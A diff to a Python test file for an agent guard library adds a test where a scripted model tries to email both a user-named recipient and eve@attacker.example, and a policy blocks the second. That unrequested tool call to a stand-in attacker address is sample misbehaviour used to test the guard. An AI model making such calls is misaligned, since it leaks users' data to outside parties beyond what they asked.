@@ -13,11 +13,14 @@ from _langchain_support import POLICY, SECRET, ScriptedChatModel, Tools, final, 
 from _readme import ReadmeSection
 from langchain.agents import create_agent
 from langchain.agents.middleware import ToolErrorMiddleware, ToolRetryMiddleware
-from langchain_core.messages import AIMessage
+from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
+from langchain_core.messages import AIMessage, ToolMessage
+from langchain_core.tools import tool
 from langgraph.checkpoint.memory import InMemorySaver
 from langgraph.types import Command
 
 from callwarden import Guard, RunHalted
+from callwarden.adapters._core import latest_user_text
 from callwarden.adapters.langchain import CallwardenMiddleware, GraphRunHalted
 from callwarden.audit import Auditor, CallableSink
 
@@ -384,3 +387,35 @@ def test_the_readme_example_runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch
     (block,) = re.findall(r"```python\n(.*?)```", README.read_text(), re.S)
     monkeypatch.chdir(tmp_path)
     within(20, exec, compile(block, str(README), "exec"), {})
+
+
+def test_the_users_latest_message_is_the_request_the_policy_sees() -> None:
+    policy = {"version": 1, "rules": [
+        {"id": "strangers", "roles": {"recipient": {"in": ["request"]}}, "effect": "deny",
+         "message": "Mail only people the user named."}]}
+    sent: list[str] = []
+
+    @tool
+    def send_email(to: str) -> str:
+        """Sends an e-mail."""
+        sent.append(to)
+        return f"sent to {to}"
+
+    class Scripted(GenericFakeChatModel):
+        def bind_tools(self, tools: Any, **kwargs: Any) -> Any:
+            return self
+
+    model = Scripted(messages=iter([
+        AIMessage("", tool_calls=[{"name": "send_email", "args": {"to": "carol@example.org"},
+                                   "id": "c1"},
+                                  {"name": "send_email", "args": {"to": "eve@attacker.example"},
+                                   "id": "c2"}]),
+        AIMessage("done")]))
+    agent = create_agent(model, [send_email], middleware=[CallwardenMiddleware(policy)])
+    state = agent.invoke({"messages": [("user", "Mail Carol@Example.org the notes")]})
+    results = {m.tool_call_id: m for m in state["messages"] if isinstance(m, ToolMessage)}
+    assert sent == ["carol@example.org"]
+    assert results["c2"].status == "error" and "Mail only people" in results["c2"].content
+    assert latest_user_text([{"role": "user", "content": [{"type": "input_text", "text": "a"}]},
+                             {"role": "assistant", "content": "b"}]) == "a"
+    assert latest_user_text([]) is None and latest_user_text("x") is None
